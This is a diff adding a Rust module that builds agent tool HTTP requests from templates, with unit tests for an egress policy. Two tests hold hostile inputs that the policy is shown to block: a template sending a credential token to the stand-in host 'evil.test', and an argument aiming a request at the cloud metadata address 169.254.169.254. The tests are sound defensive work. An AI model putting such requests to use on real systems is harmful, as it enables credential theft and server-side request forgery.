@@ -1,0 +1,164 @@
+//! Prepares the request of a call or of a step from its templates. Sends nothing.
+
+use reqwest::{
+    Method,
+    header::{CONTENT_TYPE, HeaderMap, HeaderValue},
+};
+use serde_json::Value;
+use steadfast_crds::agent_tool::{HttpMethod, HttpTool};
+use url::Url;
+
+use crate::egress::request_target::{RequestTarget, RequestTargetError};
+
+/// The body of a request whose tool has no `body`.
+#[derive(Clone, Debug, PartialEq)]
+pub(crate) enum DefaultBody {
+    /// The arguments of a call: sent with POST, PUT and PATCH.
+    CallArguments(Value),
+    /// The arguments that a step defines: sent with every method but GET.
+    StepArguments(Value),
+}
+
+#[derive(Debug)]
+pub(crate) struct PreparedRequest {
+    pub(crate) method: Method,
+    pub(crate) url: Url,
+    pub(crate) headers: HeaderMap,
+    pub(crate) body: Option<String>,
+}
+
+impl PreparedRequest {
+    pub(crate) fn new(
+        tool: &HttpTool,
+        target: RequestTarget<'_>,
+        default_body: DefaultBody,
+    ) -> Result<Self, RequestTargetError> {
+        let url = target.url(&tool.url)?;
+        let mut headers = target.headers(&tool.headers, &url)?;
+        let body = match &tool.body {
+            Some(body) => Some(target.text(body, &url)?),
+            None => default_body_of(tool.method, default_body),
+        };
+        if body.is_some() && !headers.contains_key(CONTENT_TYPE) {
+            headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/json"));
+        }
+        let method = match tool.method {
+            HttpMethod::Get => Method::GET,
+            HttpMethod::Post => Method::POST,
+            HttpMethod::Put => Method::PUT,
+            HttpMethod::Patch => Method::PATCH,
+            HttpMethod::Delete => Method::DELETE,
+        };
+        Ok(Self {
+            method,
+            url,
+            headers,
+            body,
+        })
+    }
+}
+
+fn default_body_of(method: HttpMethod, default_body: DefaultBody) -> Option<String> {
+    match (method, default_body) {
+        (HttpMethod::Get, _) | (HttpMethod::Delete, DefaultBody::CallArguments(_)) => None,
+        (_, DefaultBody::CallArguments(body) | DefaultBody::StepArguments(body)) => Some(body.to_string()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "tests")]
+
+    use serde_json::json;
+    use steadfast_crds::AgentRevisionSpec;
+
+    use super::*;
+    use crate::egress::{credentials::Credentials, policy::EgressPolicy};
+
+    fn revision(tool: &str, hosts: &str) -> AgentRevisionSpec {
+        serde_yaml_ng::from_str(&format!(
+            "{{agent: a, sequence: 1, instructions: hi, model: {{name: m}}, taskQueue: q,
+              credentials: [{{envVarName: TOKEN, hosts: {hosts}}}],
+              tools: [{{name: t, spec: {{description: d, parameters: {{type: object}}, http: {tool}}}}}]}}"
+        ))
+        .unwrap()
+    }
+
+    fn prepare(tool: &str, hosts: &str) -> Result<PreparedRequest, RequestTargetError> {
+        prepare_with(tool, hosts, DefaultBody::CallArguments)
+    }
+
+    fn prepare_with(
+        tool: &str,
+        hosts: &str,
+        body: impl Fn(Value) -> DefaultBody,
+    ) -> Result<PreparedRequest, RequestTargetError> {
+        let arguments = json!({"city": "São Paulo"});
+        let revision = revision(tool, hosts);
+        let target = RequestTarget {
+            credentials: &Credentials::new([("TOKEN".to_owned(), "s3cret".to_owned())]),
+            policy: Some(EgressPolicy::default()),
+            revision: &revision,
+            scope: arguments.as_object(),
+        };
+        PreparedRequest::new(
+            revision.tools[0].spec.http.as_ref().unwrap(),
+            target,
+            body(arguments.clone()),
+        )
+    }
+
+    #[test]
+    fn a_request_is_rendered_from_templates() {
+        let prepared = prepare(
+            "{method: GET, url: \"https://api.test/w?q={{ city | urlencode }}\", headers: [{name: Authorization, value: \"Bearer ${env.TOKEN}\"}]}",
+            "[api.test]",
+        )
+        .unwrap();
+        assert_eq!(prepared.url.as_str(), "https://api.test/w?q=S%C3%A3o%20Paulo");
+        assert_eq!(prepared.headers["authorization"], "Bearer s3cret");
+        assert!(prepared.headers["authorization"].is_sensitive());
+        assert_eq!(prepared.body, None);
+    }
+
+    #[test]
+    fn a_post_without_a_body_sends_the_arguments() {
+        let prepared = prepare("{method: POST, url: \"https://api.test/\"}", "[]").unwrap();
+        assert_eq!(prepared.body.as_deref(), Some("{\"city\":\"São Paulo\"}"));
+        assert_eq!(prepared.headers[CONTENT_TYPE], "application/json");
+    }
+
+    #[test]
+    fn a_delete_sends_the_arguments_of_a_step_only() {
+        let tool = "{method: DELETE, url: \"https://api.test/\"}";
+        assert_eq!(prepare(tool, "[]").unwrap().body, None);
+        let step = prepare_with(tool, "[]", DefaultBody::StepArguments).unwrap();
+        assert_eq!(step.body.as_deref(), Some("{\"city\":\"São Paulo\"}"));
+    }
+
+    #[test]
+    fn a_credential_is_not_sent_to_a_host_that_is_not_its_own() {
+        let tool = "{method: GET, url: \"https://evil.test/\", headers: [{name: A, value: \"${env.TOKEN}\"}]}";
+        let error = prepare(tool, "[api.test]").unwrap_err().to_string();
+        assert!(error.contains("may not be sent to \"evil.test\""), "{error}");
+    }
+
+    #[test]
+    fn an_argument_cannot_name_a_metadata_service() {
+        let tool = "{method: GET, url: \"https://{{ host }}/\"}";
+        let revision = revision(tool, "[]");
+        let arguments = json!({"host": "169.254.169.254"});
+        let target = RequestTarget {
+            credentials: &Credentials::default(),
+            policy: Some(EgressPolicy::default()),
+            revision: &revision,
+            scope: arguments.as_object(),
+        };
+        let prepared = PreparedRequest::new(
+            revision.tools[0].spec.http.as_ref().unwrap(),
+            target,
+            DefaultBody::CallArguments(Value::Null),
+        );
+        assert!(matches!(prepared, Err(RequestTargetError::Denied(_))));
+    }
+}
